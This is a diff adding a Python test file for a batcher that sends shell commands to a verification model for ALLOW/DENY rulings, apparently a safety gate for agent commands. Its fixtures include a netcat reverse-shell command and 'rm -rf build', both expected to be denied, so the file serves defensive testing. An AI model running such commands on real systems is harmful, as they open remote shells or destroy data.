@@ -0,0 +1,78 @@
+#!/usr/bin/env python3
+"""Tests for micro-batching of verification calls."""
+
+import asyncio
+
+from batch import Batcher
+
+
+class FakeProvider:
+    """Answers batched prompts with a canned reply, single prompts by keyword."""
+
+    def __init__(self, batch_reply: str):
+        self.batch_reply = batch_reply
+        self.calls = []
+
+    async def generate(self, prompt, max_tokens=150):
+        assert prompt.startswith("Review each"), "single items must use generate_decision"
+        self.calls.append(prompt)
+        return self.batch_reply
+
+    async def generate_decision(self, prompt, max_tokens=32):
+        self.calls.append(prompt)
+        return "DENY: individual" if "rm" in prompt else "ALLOW"
+
+
+def _run(provider, prompts):
+    async def go():
+        batcher = Batcher(provider, max_batch=len(prompts), max_wait_ms=50)
+        try:
+            return await asyncio.gather(*(batcher.submit(p) for p in prompts))
+        finally:
+            batcher.close()
+    return asyncio.run(go())
+
+
+def test_indexed_reply_matched_by_number():
+    provider = FakeProvider("Here are the decisions:\n[2] DENY: reverse shell\n[1] ALLOW\n[3] ALLOW")
+    results = _run(provider, ["ls", "nc -e /bin/sh x 1", "pwd"])
+    assert results == ["ALLOW", "DENY: reverse shell", "ALLOW"]
+    assert len(provider.calls) == 1
+
+
+def test_unindexed_reply_retried_individually():
+    """A preamble plus N-1 verdicts must not be assigned by position."""
+    provider = FakeProvider("Here are the decisions:\nALLOW\nDENY: reverse shell")
+    results = _run(provider, ["ls", "rm -rf build", "pwd"])
+    assert results == ["ALLOW", "DENY: individual", "ALLOW"]
+    assert len(provider.calls) == 4
+
+
+def test_missing_or_duplicate_index_retried_individually():
+    for reply in ["[1] ALLOW\n[2] ALLOW", "[1] ALLOW\n[1] DENY: x\n[2] ALLOW", "[1] ALLOW\n[2] ALLOW\n[4] ALLOW"]:
+        provider = FakeProvider(reply)
+        results = _run(provider, ["ls", "pwd", "rm -rf build"])
+        assert results == ["ALLOW", "ALLOW", "DENY: individual"], reply
+
+
+def test_single_item_uses_decision_call():
+    provider = FakeProvider("")
+    assert _run(provider, ["rm -rf build"]) == ["DENY: individual"]
+    assert len(provider.calls) == 1
+
+
+if __name__ == "__main__":
+    import sys
+    tests = [v for k, v in globals().items() if k.startswith("test_")]
+    passed = 0
+    failed = 0
+    for t in tests:
+        try:
+            t()
+            print(f"  ✅ {t.__name__}")
+            passed += 1
+        except Exception as e:
+            print(f"  ❌ {t.__name__}: {e}")
+            failed += 1
+    print(f"\n{passed} passed, {failed} failed")
+    sys.exit(1 if failed else 0)